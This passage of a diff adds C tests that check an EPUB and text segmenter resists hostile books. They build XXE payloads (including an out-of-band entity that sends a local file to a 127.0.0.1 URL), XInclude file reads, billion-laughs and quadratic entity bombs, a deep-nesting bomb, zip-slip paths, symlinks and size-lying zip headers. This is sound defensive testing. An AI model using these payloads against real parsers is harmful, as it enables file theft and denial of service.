@@ -6,6 +6,7 @@
 
 #include <archive.h>
 #include <archive_entry.h>
+#include <glib/gstdio.h>
 #include <string.h>
 
 static SutraRegistry *registry;
@@ -2077,6 +2078,751 @@ test_segmenter_bad_input (gconstpointer data)
   g_assert_true (g_str_has_prefix (anonymous_error->message, row->name));
 }
 
+/* Hostile input: EPUBs that try to read local files or URLs, to expand
+ * into gigabytes, to escape the archive, to nest without end, and texts
+ * with huge lines and NUL bytes. Each must give a clear error naming the
+ * book, or correct output; none may put what it points at in the
+ * output. */
+
+#define SECRET "SUTRA-SECRET-7d1e0c"
+
+/* "@FILE@": the URI of a file holding SECRET; "@DTD@": that of a DTD
+ * declaring the entity "secret" as SECRET (and the parameter entity
+ * "%secret_decl"); "@LONG@": 20,000 letters; "@REFS@": 20,000 references
+ * to the entity "a"; "@DEEP@" and "@UNDEEP@": 100,000 nested <div>s, opened
+ * and closed; "@NUL@": a NUL byte. An entry whose text starts with "->" is
+ * a symbolic link to the rest. */
+typedef struct
+{
+  const char *name;
+  const char *const *zip;
+  const char *params;
+  const char *cause;  /* nullable: the error's message holds it; NULL: read */
+  const char *joined; /* nullable: when read, every chunk joined by spaces */
+  const char *author; /* nullable: when read, the author's metadata */
+} HostileCase;
+
+#define OPF_DOCTYPE(doctype, creator, manifest, spine)                                             \
+  "<?xml version=\"1.0\"?>" doctype "<package xmlns=\"http://www.idpf.org/2007/opf\" "             \
+  "version=\"3.0\"><metadata xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>Tiny"         \
+  "</dc:title><dc:creator>" creator "</dc:creator><dc:language>en</dc:language></metadata>"        \
+  "<manifest><item id=\"ncx\" href=\"toc.ncx\" media-type=\"application/x-dtbncx+xml\"/>" manifest \
+  "</manifest><spine toc=\"ncx\">" spine "</spine></package>"
+
+#define OPF_ONE(doctype, creator) \
+  OPF_DOCTYPE (doctype, creator, OPF_ITEM ("c1"), "<itemref idref=\"c1\"/>")
+
+#define XHTML_DOCTYPE(doctype, body)                                                          \
+  "<?xml version=\"1.0\" encoding=\"utf-8\"?>" doctype "<html "                               \
+  "xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body>" body "</body>" \
+  "</html>"
+
+#define EXTERNAL(name) "<!ENTITY " name " SYSTEM \"@FILE@\">"
+
+#define HOSTILE_EPUB(opf, ncx, chapter)                                                           \
+  {                                                                                               \
+    "mimetype", "application/epub+zip", "META-INF/container.xml", CONTAINER, "OEBPS/content.opf", \
+      opf, "OEBPS/toc.ncx", ncx, "OEBPS/c1.xhtml", chapter, NULL,                                 \
+  }
+
+#define PLAIN_OPF OPF_ONE ("", "A. Writer")
+#define PLAIN_NCX NCX (NAV_POINT ("One", "c1.xhtml", ""))
+#define PLAIN_CHAPTER XHTML ("<p>Before.</p><p>After.</p>")
+
+static const char *const xxe_opf[] =
+  HOSTILE_EPUB (OPF_ONE ("<!DOCTYPE package [" EXTERNAL ("x") "]>", "&x;"),
+                PLAIN_NCX,
+                PLAIN_CHAPTER);
+static const char *const xxe_opf_attribute[] =
+  HOSTILE_EPUB (OPF_DOCTYPE ("<!DOCTYPE package [" EXTERNAL ("x") "]>",
+                             "A. Writer",
+                             "<item id=\"c1\" href=\"&x;\" media-type=\"application/xhtml+xml\"/>",
+                             "<itemref idref=\"c1\"/>"),
+                PLAIN_NCX,
+                PLAIN_CHAPTER);
+static const char *const xxe_chapter[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [" EXTERNAL ("x") "]>", "<p>Before &x; after.</p>"));
+static const char *const xxe_ncx[] = HOSTILE_EPUB (
+  PLAIN_OPF,
+  "<?xml version=\"1.0\"?><!DOCTYPE ncx [" EXTERNAL (
+    "x") "]><ncx "
+         "xmlns=\"http://www.daisy.org/z3986/2005/ncx/\" version=\"2005-1\"><navMap>" NAV_POINT (
+           "&x;",
+           "c1.xhtml",
+           "") "</navMap></ncx>",
+  PLAIN_CHAPTER);
+static const char *const xxe_nav[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_TWO_CHAPTERS,
+  "OEBPS/nav.xhtml",
+  "<?xml version=\"1.0\"?><!DOCTYPE html [" EXTERNAL (
+    "x") "]><html "
+         "xmlns=\"http://www.w3.org/1999/xhtml\" xmlns:epub=\"http://www.idpf.org/2007/ops\"><body>"
+         "<nav epub:type=\"toc\"><ol><li><a href=\"text/c1.xhtml\">&x;</a></li></ol></nav></body>"
+         "</html>",
+  "OEBPS/text/c1.xhtml",
+  PLAIN_CHAPTER,
+  "OEBPS/text/c 2.xhtml",
+  PLAIN_CHAPTER,
+  NULL,
+};
+static const char *const xxe_container[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  "<?xml version=\"1.0\"?><!DOCTYPE container [" EXTERNAL (
+    "x") "]><container version=\"1.0\" "
+         "xmlns=\"urn:oasis:names:tc:opendocument:xmlns:container\"><rootfiles><rootfile "
+         "full-path=\"OEBPS/content.opf\" "
+         "media-type=\"application/oebps-package+xml\">&x;</rootfile>"
+         "</rootfiles></container>",
+  "OEBPS/content.opf",
+  PLAIN_OPF,
+  "OEBPS/toc.ncx",
+  PLAIN_NCX,
+  "OEBPS/c1.xhtml",
+  PLAIN_CHAPTER,
+  NULL,
+};
+static const char *const xxe_http[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY x SYSTEM \"http://127.0.0.1:9/" SECRET
+                               "\">]>",
+                               "<p>Before &x; after.</p>"));
+static const char *const xxe_parameter[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY % p SYSTEM \"@DTD@\"> %p;]>",
+                               "<p>Before &secret; after.</p>"));
+/* The "out of band" form: a parameter entity builds the declaration of
+ * an entity whose URL carries the file. */
+static const char *const xxe_parameter_oob[] = HOSTILE_EPUB (
+  PLAIN_OPF,
+  PLAIN_NCX,
+  XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY % file SYSTEM \"@FILE@\"><!ENTITY % eval \"<!ENTITY "
+                 "&#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\"> %eval; %exfil;]>",
+                 "<p>Before after.</p>"));
+/* An external DTD is never loaded: its entity stays undeclared. */
+static const char *const xxe_external_dtd[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html SYSTEM \"@DTD@\">",
+                               "<p>Before &secret; after.</p>"));
+/* EPUB 2's usual XHTML 1.1 DOCTYPE: read, offline, its entities from
+ * HTML's table. */
+static const char *const xhtml11_doctype[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" "
+                               "\"http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd\">",
+                               "<p>Caf&eacute;&nbsp;au lait &amp; more.</p>"));
+static const char *const xinclude[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("",
+                               "<p xmlns:xi=\"http://www.w3.org/2001/XInclude\">Before. "
+                               "<xi:include href=\"@FILE@\" parse=\"text\"/> After.</p>"));
+static const char *const billion_laughs[] = HOSTILE_EPUB (
+  PLAIN_OPF,
+  PLAIN_NCX,
+  XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY lol \"lol\">"
+                 "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
+                 "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
+                 "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
+                 "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
+                 "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
+                 "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
+                 "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
+                 "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
+                 "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">"
+                 "]>",
+                 "<p>&lol9;</p>"));
+static const char *const quadratic_blowup[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY a \"@LONG@\">]>", "<p>@REFS@</p>"));
+static const char *const quadratic_attribute[] =
+  HOSTILE_EPUB (PLAIN_OPF,
+                PLAIN_NCX,
+                XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY a \"@LONG@\">]>",
+                               "<p class=\"@REFS@\">Text.</p>"));
+/* Entities that stand for a character, as some XHTML declares them: in
+ * text, in a title and in the attribute that names the chapter's file. */
+static const char *const small_entities[] = HOSTILE_EPUB (
+  OPF_DOCTYPE ("<!DOCTYPE package [<!ENTITY ch \"c1\"><!ENTITY who \"A.&#160;W.\">]>",
+               "&who;",
+               "<item id=\"c1\" href=\"&ch;.xhtml\" media-type=\"application/xhtml+xml\"/>",
+               "<itemref idref=\"c1\"/>"),
+  PLAIN_NCX,
+  XHTML_DOCTYPE ("<!DOCTYPE html [<!ENTITY nb \"&#160;\"><!ENTITY dash \"&#x2014;\">]>",
+                 "<p>It&nb;was&dash;dark <b>and&nb;cold</b>.</p>"));
+static const char *const depth_bomb[] =
+  HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, XHTML ("<p>Before.</p>@DEEP@deep@UNDEEP@"));
+static const char *const nul_in_chapter[] =
+  HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, XHTML ("<p>Before.@NUL@After.</p>"));
+static const char *const nul_in_package[] =
+  HOSTILE_EPUB (OPF_ONE ("", "A.@NUL@Writer"), PLAIN_NCX, PLAIN_CHAPTER);
+/* "../" in entry names and in the manifest: nothing outside the archive
+ * is read, and nothing is written anywhere. */
+static const char *const zip_slip[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_DOCTYPE ("",
+               "A. Writer",
+               "<item id=\"c1\" href=\"../../sutra-zip-slip.xhtml\" "
+               "media-type=\"application/xhtml+xml\"/>",
+               "<itemref idref=\"c1\"/>"),
+  "../../sutra-zip-slip.xhtml",
+  PLAIN_CHAPTER,
+  "OEBPS/../../sutra-zip-slip.xhtml",
+  PLAIN_CHAPTER,
+  NULL,
+};
+static const char *const zip_slip_unused[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  PLAIN_OPF,
+  "OEBPS/toc.ncx",
+  PLAIN_NCX,
+  "OEBPS/c1.xhtml",
+  PLAIN_CHAPTER,
+  "../../sutra-zip-slip.xhtml",
+  XHTML ("<p>" SECRET "</p>"),
+  "/tmp/sutra-zip-slip.xhtml",
+  XHTML ("<p>Absolute.</p>"),
+  NULL,
+};
+static const char *const symlink_chapter[] = HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, "->@PATH@");
+/* The spine names one chapter a thousand times, and two in a cycle: each
+ * is read once. */
+static const char *const spine_repeats[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_DOCTYPE (
+    "",
+    "A. Writer",
+    OPF_ITEM ("c1")
+      OPF_ITEM ("c2") "<item id=\"again\" href=\"c1.xhtml\" media-type=\"application/xhtml+xml\"/>",
+    "@SPINE@<itemref idref=\"c2\"/><itemref idref=\"c1\"/><itemref idref=\"again\"/>"
+    "<itemref idref=\"c2\"/>"),
+  "OEBPS/toc.ncx",
+  NCX (NAV_POINT ("One", "c1.xhtml", "") NAV_POINT ("Two", "c2.xhtml", "")),
+  "OEBPS/c1.xhtml",
+  XHTML ("<p>First chapter.</p>"),
+  "OEBPS/c2.xhtml",
+  XHTML ("<p>Second chapter.</p>"),
+  NULL,
+};
+
+/* A TOC of 2,000 entries pointing into one paragraph, and a paragraph
+ * followed by 20,000 empty blocks: read in time linear in their size. */
+#define OPF_NAV_ONE                                                                        \
+  OPF_DOCTYPE ("", "A. Writer",                                                            \
+               "<item id=\"nav\" href=\"nav.xhtml\" media-type=\"application/xhtml+xml\" " \
+               "properties=\"nav\"/>" OPF_ITEM ("c1"),                                     \
+               "<itemref idref=\"c1\"/>")
+
+static const char *const toc_into_one_paragraph[] = {
+  "mimetype",
+  "application/epub+zip",
+  "META-INF/container.xml",
+  CONTAINER,
+  "OEBPS/content.opf",
+  OPF_NAV_ONE,
+  "OEBPS/nav.xhtml",
+  "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\" "
+  "xmlns:epub=\"http://www.idpf.org/2007/ops\"><body><nav epub:type=\"toc\"><ol>@NAV_ANCHORS@"
+  "</ol></nav></body></html>",
+  "OEBPS/c1.xhtml",
+  XHTML ("<p>Before.</p><p>@ANCHORED@</p><p>After.</p>"),
+  NULL,
+};
+static const char *const many_empty_blocks[] =
+  HOSTILE_EPUB (PLAIN_OPF, PLAIN_NCX, XHTML ("<p>Before.</p><p>@XS@</p>@EMPTY@<p>After.</p>"));
+
+#define REFUSED ": sutra refuses such entities"
+
+static const HostileCase hostile_cases[] = {
+  { "xxe-opf", xxe_opf, NULL,
+    "“OEBPS/content.opf” line 1: the DOCTYPE declares the external entity “x” (SYSTEM “file://",
+    NULL },
+  { "xxe-opf-attribute", xxe_opf_attribute, NULL,
+    "“OEBPS/content.opf” line 1: the DOCTYPE declares", NULL },
+  { "xxe-chapter", xxe_chapter, NULL,
+    "“OEBPS/c1.xhtml” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-ncx", xxe_ncx, NULL,
+    "“OEBPS/toc.ncx” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-nav", xxe_nav, NULL,
+    "“OEBPS/nav.xhtml” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-container", xxe_container, NULL,
+    "“META-INF/container.xml” line 1: the DOCTYPE declares the external entity “x”", NULL },
+  { "xxe-http", xxe_http, NULL, "declares the external entity “x” (SYSTEM “http://127.0.0.1:9/",
+    NULL },
+  { "xxe-parameter", xxe_parameter, NULL, "declares the parameter entity “%p”" REFUSED, NULL },
+  { "xxe-parameter-oob", xxe_parameter_oob, NULL, "declares the parameter entity “%file”", NULL },
+  { "external-dtd", xxe_external_dtd, NULL, NULL, "Before after." },
+  { "xhtml11-doctype", xhtml11_doctype, NULL, NULL,
+    "Caf\xc3\xa9\xc2\xa0"
+    "au lait & more." },
+  { "xinclude", xinclude, NULL, NULL, "Before. After." },
+  { "billion-laughs", billion_laughs, NULL,
+    "declares the entity “lol1”, whose text is longer than 8 bytes or holds markup or references "
+    "to other entities" REFUSED,
+    NULL },
+  { "quadratic-blowup", quadratic_blowup, NULL, "declares the entity “a”, whose text is longer",
+    NULL },
+  { "quadratic-attribute", quadratic_attribute, NULL, "declares the entity “a”", NULL },
+  { "small-entities", small_entities, NULL, NULL,
+    "It\xc2\xa0was\xe2\x80\x94"
+    "dark and\xc2\xa0"
+    "cold.",
+    "A.\xc2\xa0W." },
+  { "depth-bomb", depth_bomb, NULL, "elements nested deeper than 256 levels", NULL },
+  { "nul-in-chapter", nul_in_chapter, NULL, "malformed XML in “OEBPS/c1.xhtml” at line 1", NULL },
+  { "nul-in-package", nul_in_package, NULL, "malformed XML in “OEBPS/content.opf” at line 1",
+    NULL },
+  { "zip-slip", zip_slip, NULL,
+    "spine itemref “c1” in “OEBPS/content.opf” names “../../sutra-zip-slip.xhtml”, which climbs "
+    "out of the archive",
+    NULL },
+  { "zip-slip-unused", zip_slip_unused, NULL, NULL, "Before. After." },
+  { "symlink", symlink_chapter, NULL,
+    "spine item “c1” names “OEBPS/c1.xhtml”, which is a symbolic link in the archive", NULL },
+  { "toc-into-one-paragraph", toc_into_one_paragraph, "{\"epub_chapters\": \"spine\"}", NULL,
+    "Before. @XS@ After." },
+  { "many-empty-blocks", many_empty_blocks, NULL, NULL, "Before. @XS@ After." },
+  { "spine-repeats", spine_repeats, "{\"epub_chapters\": \"spine\"}", NULL,
+    "First chapter. Second chapter." },
+};
+
+static void
+write_zip_link (struct archive *archive, const char *name, const char *target)
+{
+  struct archive_entry *entry = archive_entry_new ();
+
+  archive_entry_set_pathname (entry, name);
+  archive_entry_set_filetype (entry, AE_IFLNK);
+  archive_entry_set_perm (entry, 0777);
+  archive_entry_set_symlink (entry, target);
+  archive_entry_set_size (entry, 0);
+  g_assert_cmpint (archive_write_header (archive, entry), ==, ARCHIVE_OK);
+  archive_entry_free (entry);
+}
+
+static char *
+repeat_string (const char *unit, guint n)
+{
+  GString *out = g_string_new (NULL);
+
+  for (guint i = 0; i < n; i++)
+    g_string_append (out, unit);
+  return g_string_free (out, FALSE);
+}
+
+/* The template with its placeholders replaced: @NUL@ makes it hold a NUL,
+ * so its length is returned too. */
+static GBytes *
+expand_template (const char *text, GHashTable *values)
+{
+  GString *out = g_string_new (NULL);
+
+  for (const char *p = text; *p != '\0';)
+    {
+      const char *end = p[0] == '@' ? strchr (p + 1, '@') : NULL;
+      g_autofree char *key = end != NULL ? g_strndup (p, (gsize) (end - p + 1)) : NULL;
+      const char *value = key != NULL ? g_hash_table_lookup (values, key) : NULL;
+
+      if (key != NULL && strcmp (key, "@NUL@") == 0)
+        {
+          g_string_append_c (out, '\0');
+          p = end + 1;
+        }
+      else if (value != NULL)
+        {
+          g_string_append (out, value);
+          p = end + 1;
+        }
+      else
+        g_string_append_c (out, *p++);
+    }
+  return g_string_free_to_bytes (out);
+}
+
+static GBytes *
+make_hostile_zip (const char *const *entries, GHashTable *values)
+{
+  struct archive *archive = archive_write_new ();
+  GByteArray *bytes = g_byte_array_new ();
+
+  archive_write_set_format_zip (archive);
+  g_assert_cmpint (archive_write_open (archive, bytes, NULL, zip_write_cb, NULL), ==, ARCHIVE_OK);
+  for (guint i = 0; entries[i] != NULL; i += 2)
+    {
+      g_autoptr (GBytes) data = expand_template (entries[i + 1], values);
+      gsize size;
+      const char *text = g_bytes_get_data (data, &size);
+
+      if (g_str_has_prefix (text, "->"))
+        write_zip_link (archive, entries[i], text + 2);
+      else
+        write_zip_entry (archive, entries[i], text, size, 1);
+    }
+  g_assert_cmpint (archive_write_close (archive), ==, ARCHIVE_OK);
+  archive_write_free (archive);
+  return g_byte_array_free_to_bytes (bytes);
+}
+
+/* Whether @needle is anywhere in the items: text, ids or metadata. */
+static gboolean
+items_hold (GPtrArray *items, const char *needle)
+{
+  for (guint i = 0; i < items->len; i++)
+    {
+      SutraItem *item = items->pdata[i];
+      g_autofree char *text = item_text (item);
+      JsonObject *meta = sutra_item_get_meta (item);
+      g_autofree char *meta_json = NULL;
+
+      if (meta != NULL)
+        {
+          g_autoptr (JsonNode) node = json_node_init_object (json_node_alloc (), meta);
+
+          meta_json = json_to_string (node, FALSE);
+        }
+      if (strstr (text, needle) != NULL || strstr (sutra_item_get_id (item), needle) != NULL ||
+          (meta_json != NULL && strstr (meta_json, needle) != NULL))
+        return TRUE;
+    }
+  return FALSE;
+}
+
+static void
+test_segmenter_hostile (gconstpointer data)
+{
+  const HostileCase *row = data;
+  g_autoptr (GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("sutra-hostile-XXXXXX", &error);
+  g_autofree char *secret_path = g_build_filename (dir, "secret.txt", NULL);
+  g_autofree char *dtd_path = g_build_filename (dir, "secret.dtd", NULL);
+  g_autofree char *secret_uri = g_filename_to_uri (secret_path, NULL, NULL);
+  g_autofree char *dtd_uri = g_filename_to_uri (dtd_path, NULL, NULL);
+  g_autofree char *book_path = g_strdup_printf ("/books/%s.epub", row->name);
+  g_autofree char *cwd = g_get_current_dir ();
+  g_autofree char *slipped = g_build_filename (cwd, "..", "..", "sutra-zip-slip.xhtml", NULL);
+  g_autoptr (GHashTable) values = g_hash_table_new_full (g_str_hash, g_str_equal, NULL, g_free);
+  g_autoptr (SutraItem) book = NULL;
+  g_autoptr (GPtrArray) items = NULL;
+
+  g_test_summary ("Hostile EPUBs: external entities by every route (package, container, NCX, "
+                  "nav, chapters, attributes, parameter entities, external DTDs, http), "
+                  "XInclude, entity bombs, a depth bomb, NUL bytes, \"../\" and symbolic links "
+                  "in the archive, a spine repeating its documents: a clear error naming the "
+                  "document, or correct output, and never the content of a file they point at");
+  g_assert_no_error (error);
+  g_file_set_contents (secret_path, SECRET "\n", -1, &error);
+  g_assert_no_error (error);
+  g_file_set_contents (dtd_path,
+                       "<!ENTITY secret \"" SECRET "\">\n"
+                       "<!ENTITY % secret_decl \"<!ENTITY leaked '" SECRET "'>\">\n",
+                       -1, &error);
+  g_assert_no_error (error);
+  g_hash_table_insert (values, "@FILE@", g_strdup (secret_uri));
+  g_hash_table_insert (values, "@DTD@", g_strdup (dtd_uri));
+  g_hash_table_insert (values, "@PATH@", g_strdup (secret_path));
+  g_hash_table_insert (values, "@LONG@", repeat_string ("a", 20000));
+  g_hash_table_insert (values, "@REFS@", repeat_string ("&a;", 20000));
+  g_hash_table_insert (values, "@DEEP@", repeat_string ("<div>", 100000));
+  g_hash_table_insert (values, "@UNDEEP@", repeat_string ("</div>", 100000));
+  g_hash_table_insert (values, "@SPINE@", repeat_string ("<itemref idref=\"c1\"/>", 1000));
+  g_hash_table_insert (values, "@EMPTY@", repeat_string ("<p/>", 20000));
+  {
+    GString *anchored = g_string_new (NULL), *nav = g_string_new (NULL), *xs = g_string_new (NULL);
+
+    for (guint i = 0; i < 2000; i++)
+      {
+        g_string_append_printf (anchored, "<a id=\"a%u\"/>x ", i);
+        g_string_append_printf (nav, "<li><a href=\"c1.xhtml#a%u\">Entry %u</a></li>", i, i);
+        g_string_append (xs, i > 0 ? " x" : "x");
+      }
+    g_hash_table_insert (values, "@ANCHORED@", g_string_free (anchored, FALSE));
+    g_hash_table_insert (values, "@NAV_ANCHORS@", g_string_free (nav, FALSE));
+    g_hash_table_insert (values, "@XS@", g_string_free (xs, FALSE));
+  }
+
+  book = make_book (row->name, book_path, SUTRA_MEDIA_EPUB, make_hostile_zip (row->zip, values));
+  items = segment (row->params, book, &error);
+  /* Before anything else: whatever the outcome, the file's content is
+   * nowhere. */
+  if (items != NULL)
+    g_assert_false (items_hold (items, SECRET));
+  if (error != NULL)
+    g_assert_null (strstr (error->message, SECRET "\n"));
+  if (row->cause != NULL)
+    {
+      g_assert_null (items);
+      g_assert_error (error, SUTRA_PLUGIN_ERROR, SUTRA_PLUGIN_ERROR_INVALID_INPUT);
+      if (g_test_verbose ())
+        g_test_message ("%s", error->message);
+      g_assert_true (g_str_has_prefix (error->message, book_path));
+      g_assert_nonnull (strstr (error->message, row->cause));
+    }
+  else
+    {
+      g_autofree char *joined = NULL;
+      g_autoptr (GBytes) expected = expand_template (row->joined, values);
+
+      g_assert_no_error (error);
+      g_assert_nonnull (items);
+      assert_well_formed (items, row->name);
+      g_assert_false (items_hold (items, "lollol"));
+      joined = joined_chunks (items);
+      g_assert_cmpstr (joined, ==, g_bytes_get_data (expected, NULL));
+      if (row->author != NULL)
+        g_assert_cmpstr (sutra_item_get_meta_string (items->pdata[0], "author", NULL), ==,
+                         row->author);
+    }
+  g_assert_false (g_file_test (slipped, G_FILE_TEST_EXISTS));
+  g_assert_false (g_file_test ("/tmp/sutra-zip-slip.xhtml", G_FILE_TEST_EXISTS));
+  g_remove (secret_path);
+  g_remove (dtd_path);
+  g_rmdir (dir);
+}
+
+/* An entry whose zip headers (local and central) declare fewer bytes than
+ * it holds: libarchive's check, or the count of bytes read against
+ * max_expanded_bytes, refuses it; it is never read past either. */
+static void
+patch_declared_size (GByteArray *zip, const char *name, guint32 size)
+{
+  gsize name_length = strlen (name);
+  guint n_patched = 0;
+
+  for (gsize i = 0; i + 46 + name_length <= zip->len; i++)
+    {
+      guint8 *p = zip->data + i;
+      gsize field = 0, name_at = 0;
+
+      if (memcmp (p, "PK\003\004", 4) == 0)
+        field = 22, name_at = 30;
+      else if (memcmp (p, "PK\001\002", 4) == 0)
+        field = 24, name_at = 46;
+      else
+        continue;
+      if (memcmp (p + name_at, name, name_length) != 0)
+        continue;
+      p[field] = size & 0xff;
+      p[field + 1] = (size >> 8) & 0xff;
+      p[field + 2] = (size >> 16) & 0xff;
+      p[field + 3] = (size >> 24) & 0xff;
+      n_patched++;
+    }
+  g_assert_cmpuint (n_patched, ==, 2);
+}
+
+static const struct
+{
+  const char *name;
+  const char *params;
+  const char *cause;
+} size_lies[] = {
+  { "default", NULL, "entry “OEBPS/c1.xhtml” of the archive is damaged" },
+  { "small-limit", "{\"max_expanded_bytes\": 1048576}",
+    "the archive expands past the limit of 1048576 bytes (max_expanded_bytes) at entry "
+    "“OEBPS/c1.xhtml”" },
+};
+
+static void
+test_segmenter_entry_larger_than_declared (gconstpointer data)
+{
+  guint row = GPOINTER_TO_UINT (data);
+  g_autofree char *paragraphs = repeat_string (PARAGRAPHS, 10000);
+  g_autofree char *chapter =
+    g_strconcat ("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body>",
+                 paragraphs, "</body></html>", NULL);
+  const char *entries[] = {
+    "mimetype",
+    "application/epub+zip",
+    "META-INF/container.xml",
+    CONTAINER,
+    "OEBPS/content.opf",
+    PLAIN_OPF,
+    "OEBPS/toc.ncx",
+    PLAIN_NCX,
+    "OEBPS/c1.xhtml",
+    chapter,
+    NULL,
+  };
+  g_autoptr (GBytes) zip = make_zip (entries, 0);
+  GByteArray *patched = g_byte_array_new ();
+  g_autoptr (SutraItem) book = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autoptr (GPtrArray) items = NULL;
+
+  g_test_summary ("A zip entry holding more than its headers declare is refused, by "
+                  "libarchive's size check or by max_expanded_bytes, naming the entry");
+  g_byte_array_append (patched, g_bytes_get_data (zip, NULL), (guint) g_bytes_get_size (zip));
+  patch_declared_size (patched, "OEBPS/c1.xhtml", 100);
+  book =
+    make_book ("lie", "/books/lie.epub", SUTRA_MEDIA_EPUB, g_byte_array_free_to_bytes (patched));
+  items = segment (size_lies[row].params, book, &error);
+  g_assert_null (items);
+  g_assert_error (error, SUTRA_PLUGIN_ERROR, SUTRA_PLUGIN_ERROR_INVALID_INPUT);
+  if (g_test_verbose ())
+    g_test_message ("%s", error->message);
+  g_assert_true (g_str_has_prefix (error->message, "/books/lie.epub: "));
+  g_assert_nonnull (strstr (error->message, size_lies[row].cause));
+}
+
+/* Plain text and Markdown at their worst: one line of 50 MB, with or
+ * without spaces, and NUL bytes past the start. */
+static const struct
+{
+  const char *name;
+  const char *media_type;
+  const char *unit; /* repeated to @mib MiB, one line */
+  guint mib;
+} long_lines[] = {
+  { "words", "text/plain", "word ", 50 },           { "no-spaces", "text/plain", "x", 50 },
+  { "markdown-words", "text/markdown", "mot ", 8 }, { "sentences", "text/plain", "It was. ", 8 },
+  { "wide", "text/plain", "\xe6\x96\x87", 8 },
+};
+
+static void
+test_segmenter_long_line (gconstpointer data)
+{
+  const struct
+  {
+    const char *name;
+    const char *media_type;
+    const char *unit;
+    guint mib;
+  } *row = data;
+  gsize unit_length = strlen (row->unit);
+  guint n = (guint) (((gsize) row->mib << 20) / unit_length);
+  g_autofree char *line = repeat_string (row->unit, n);
+  g_autofree char *expected = fold (line);
+  g_autoptr (SutraItem) book =
+    make_book (row->name, "/books/line.txt", row->media_type,
+               g_bytes_new_take (g_steal_pointer (&line), (gsize) n * unit_length));
+  g_autoptr (GPtrArray) items = segment_ok (NULL, book);
+  g_autofree char *joined = NULL;
+
+  g_test_summary ("A book of one huge line (50 MiB of words or of one letter, 8 MiB of "
+                  "Markdown, short sentences or CJK characters) is cut into chunks of at most "
+                  "max_chars, all of its text kept");
+  assert_chunks_fit (items, 400);
+  assert_well_formed (items, row->name);
+  joined = joined_chunks (items);
+  /* A line without spaces is cut between characters: the chunks joined
+   * by spaces hold it with a space at each cut. */
+  if (strchr (row->unit, ' ') == NULL)
+    {
+      GString *glued = g_string_new (NULL);
+
+      for (const char *p = joined; *p != '\0'; p++)
+        if (*p != ' ')
+          g_string_append_c (glued, *p);
+      g_free (joined);
+      joined = g_string_free (glued, FALSE);
+    }
+  g_assert_cmpuint (strlen (joined), ==, strlen (expected));
+  g_assert_true (strcmp (joined, expected) == 0);
+}
+
+static const struct
+{
+  const char *name;
+  const char *media_type;
+  gsize offset;
+} nul_bytes[] = {
+  { "text-late", "text/plain", 1000000 },
+  { "markdown", "text/markdown", 70000 },
+  { "text-last", "text/plain", 99999 },
+};
+
+static void
+test_segmenter_nul_bytes (gconstpointer data)
+{
+  guint row = GPOINTER_TO_UINT (data);
+  gsize size = MAX (nul_bytes[row].offset + 1, 100000);
+  g_autofree char *text = g_malloc (size);
+  g_autofree char *cause =
+    g_strdup_printf ("a NUL byte at byte offset %" G_GSIZE_FORMAT, nul_bytes[row].offset);
